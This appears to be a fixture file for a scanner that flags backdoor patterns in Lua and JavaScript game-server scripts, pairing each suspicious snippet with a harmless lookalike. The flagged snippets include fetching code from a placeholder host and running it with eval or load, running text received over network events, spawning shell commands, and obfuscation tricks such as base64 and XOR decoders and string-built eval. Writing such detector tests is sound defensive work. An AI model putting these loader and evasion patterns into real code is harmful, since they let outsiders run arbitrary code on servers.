import { behaviourFixtures } from './behaviour-fixtures.ts'
import { connectionFixtures } from './connection-fixtures.ts'
import { dataFixtures } from './data-fixtures.ts'
import { js, lua, type Fixture } from './fixture.ts'
import { pageFixtures } from './page-fixtures.ts'
import { serverFixtures } from './server-fixtures.ts'

export const fixtures: Fixture[] = [
  ...dataFixtures,
  ...pageFixtures,
  ...serverFixtures,
  js('global-by-text', `^const make = this['c' + 'onstructor']`, `const make = this['on' + 'Constructed']`),
  lua(
    'runs-downloaded-code',
    `PerformHttpRequest('https://a.example', function(status, body)\n^ load(body)()\nend)`,
    `PerformHttpRequest('https://a.example', function(status, body)\n  print(json.decode(body).version)\nend)`,
  ),
  js(
    'runs-downloaded-code',
    `fetch('https://a.example').then((r) => r.text()).then((text) => {\n^ eval(text)\n})`,
    `fetch('https://a.example').then((r) => r.json()).then((data) => { console.log(data.version) })`,
  ),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('helper')\nAddEventHandler('helper', function(id)\n^ load(id)()\nend)`,
    `RegisterNetEvent('helper')\nAddEventHandler('helper', function(id)\n  jobs[id].run()\nend)`,
  ),
  js(
    'runs-text-from-outside',
    `onNet('helper', (text) => {\n^ new Function(text)()\n})`,
    `onNet('helper', (text) => { console.log(text) })`,
  ),
  lua(
    'hidden-text',
    `^local url = string.char(104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101)`,
    `local plate = string.char(math.random(65, 90)) .. string.char(math.random(65, 90))`,
  ),
  js(
    'hidden-text',
    `^const text = Buffer.from('aHR0cHM6Ly9hLmV4YW1wbGUvY29kZS5qcw==', 'base64')`,
    `const icon = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'`,
  ),
  js(
    'hidden-text',
    `^new Function(atob('Y29uc29sZS5sb2coMSkgLy8gYSBsb25nIHRleHQ='))()`,
    `show(atob('aGVsbG8gd29ybGQ='))`,
  ),
  lua(
    'decoder',
    `local out = ''\nfor i = 1, #text do\n^ out = out .. string.char(text:byte(i) ~ 42)\nend`,
    `local out = text:gsub('%%(%x%x)', function(hex) return string.char(tonumber(hex, 16)) end)`,
  ),
  js(
    'decoder',
    `^const text = codes.map((code) => String.fromCharCode(code ^ 42)).join('')`,
    `const word = String.fromCharCode((hash >>> 8) & 0xff)`,
  ),
  lua(
    'global-by-text',
    `^_G['lo' .. 'ad']('return 1')`,
    `_G['Settings'] = {}\nlocal limit = _G.Settings.limit`,
  ),
  js('global-by-text', `^globalThis['ev' + 'al']('1')`, `globalThis['settings'] = {}`),
  lua(
    'functions-in-list',
    `^local list = { 1, PerformHttpRequest, load }`,
    `local list = { 1, print, tostring }`,
  ),
  js('functions-in-list', `^const list = [1, fetch, eval]`, `const list = [1, fetch, console.log]`),
  lua(
    'http-alias',
    `^local ask = PerformHttpRequest`,
    `local PerformHttpRequest = PerformHttpRequest\nlocal ask = TriggerEvent`,
  ),
  lua('bytecode', `^load('\\27Lua')`, `print('\\27[31m Lua')`),
  js('computed-module', `^const fs = require('f' + 's')`, `const fs = require('fs')`),
  lua('process', `^os.execute('id')`, `os.time()`),
  js('process', `^const { exec } = require('child_process')`, `const { join } = require('path')`),
  js(
    'process',
    `^const programs = await import('node:child_process')`,
    `const paths = await import('node:path')`,
  ),
  js('process', `^process.binding('spawn_sync').spawn({})`, `process.binding('buffer').kStringMaxLength`),
  js(
    'process',
    `^import { spawn } from 'node:child_process'`,
    `import type { ChildProcess } from 'node:child_process'`,
  ),
  js(
    'global-by-text',
    `^[]['constructor']['constructor']('return 1')()`,
    `const copy = new this.constructor(options)`,
  ),
  js(
    'global-by-text',
    `^[]['filter']['constructor'](code)()`,
    `const names = ['constructor']\nnames['filter'](Boolean)`,
  ),
  js(
    'global-by-text',
    `const filter = [].filter\n^filter.constructor(code)()`,
    `const list = new [].constructor(3)`,
  ),
  js('global-by-text', `^(() => {}).constructor(code)()`, `(() => {}).constructor.name`),
  js('global-by-text', `^''.constructor.constructor(code)()`, `const text = ''.constructor(code)`),
  js('global-by-text', `^Math.max.constructor(code)()`, `const copy = new layer.map.constructor(layer.map)`),
  js(
    'runs-computed-code',
    `const { Worker } = require('worker_threads')\n^new Worker(textOf(settings), { eval: true })`,
    `const { Worker } = require('worker_threads')\nnew Worker('console.log(1)', { eval: true })`,
  ),
  js(
    'runs-computed-code',
    `const threads = require('node:worker_threads')\nconst options = { eval: true }\n^new threads.Worker(textOf(settings), options)`,
    `const threads = require('node:worker_threads')\nnew threads.Worker(join(folder, 'a.js'), { workerData: 1 })`,
  ),
  js(
    'process',
    `const { Worker } = require('worker_threads')\n^new Worker("require('child_process').exec('id')", { eval: true })`,
    `const { Worker } = require('worker_threads')\nnew Worker("require('path').join('a')", { eval: true })`,
  ),
  lua(
    'global-by-text',
    `local name = ''\nfor _, part in pairs({ 'Perform', 'Http', 'Request' }) do name = name .. part end\n^_G[name](url)`,
    `local value = settings[name]`,
  ),
  js('runs-text-from-outside', `^exports('run', eval)`, `exports('run', console.log)`),
  js(
    'runs-text-from-outside',
    `const text = GetConvar('boot', '')\n^if (text) (0, eval)(text)`,
    `const text = GetConvar('boot', '')\nif (text) (0, log)(text)`,
  ),
  lua(
    'runs-text-from-outside',
    `local run <const> = load\nRegisterNetEvent('a', function(text)\n^ run(text)()\nend)`,
    `local run <const> = print\nRegisterNetEvent('a', function(text) run(text) end)`,
  ),
  lua(
    'global-by-text',
    `local all = {}\n^for name, value in next, _G do all[name] = value end`,
    `for name, value in next, settings do all[name] = value end`,
  ),
  lua('http-alias', `^local list = { print, PerformHttpRequest }`, `local list = { print, TriggerEvent }`),
  lua(
    'runs-computed-code',
    `^load(textOf(settings))()`,
    `load(LoadResourceFile(GetCurrentResourceName(), 'modules/a.lua'))()`,
  ),
  js('runs-computed-code', `^eval(textOf(settings))`, `evaluate(textOf(settings))`),
  lua(
    'obfuscated',
    `^local IIllIlI, lIlIlII, IIIllll, llIIllI, lIIIlll = 1, 2, 3, 4, 5\nprint(IIllIlI, lIlIlII, IIIllll, llIIllI, lIIIlll)`,
    `local Illness, Illinois = 1, 2\nprint(Illness, Illinois)`,
  ),
  js(
    'obfuscated',
    `^const ${Array.from({ length: 12 }, (_, index) => `_0x1a2b${index} = ${index}`).join(', ')}`,
    `const _0x1a = 1, _0x2b = 2`,
  ),
  js('minified', `^${'a(b,c);'.repeat(1000)}`, `a(b,c)\n`.repeat(1000)),
  lua('minified', `^${'a(b,c);'.repeat(1000)}`, `a(b,c)\n`.repeat(1000)),
  js(
    'runs-computed-code',
    `const { Worker } = require('worker_threads')\nconst options = { eval: false }\noptions.eval = true\n^new Worker(textOf(settings), options)`,
    `const { Worker } = require('worker_threads')\nnew Worker(join(folder, settings.name), { eval: false })`,
  ),
  js('runs-computed-code', `^eval(textOf(settings))`, `load(textOf(settings))`),
  js(
    'runs-downloaded-code',
    `const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'\n^require('fs').writeFileSync(file, line + text)`,
    `const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'\nrequire('fs').writeFileSync('docs.md', line + text)`,
  ),
  js(
    'runs-downloaded-code',
    `require('dns').resolveTxt('a.example', (error, rows) => {\n^ eval(rows[0][0])\n})`,
    `require('dns').resolveTxt('a.example', (error, rows) => { console.log(rows) })`,
  ),
  lua(
    'decoder',
    `local out = ''\nfor code in LoadResourceFile(GetCurrentResourceName(), 'names.txt'):gmatch('%d+') do\n  out = out .. string.char(tonumber(code))\nend\n^load(out)()`,
    `local names = LoadResourceFile(GetCurrentResourceName(), 'names.lua')\nload(names)()`,
  ),
  js('obfuscated', `^${'[][(![]+[])[+[]]]'.repeat(10)}`, `const grid = [[], [[], []], [[], [], []]]`),
  ...behaviourFixtures,
  ...connectionFixtures,
]
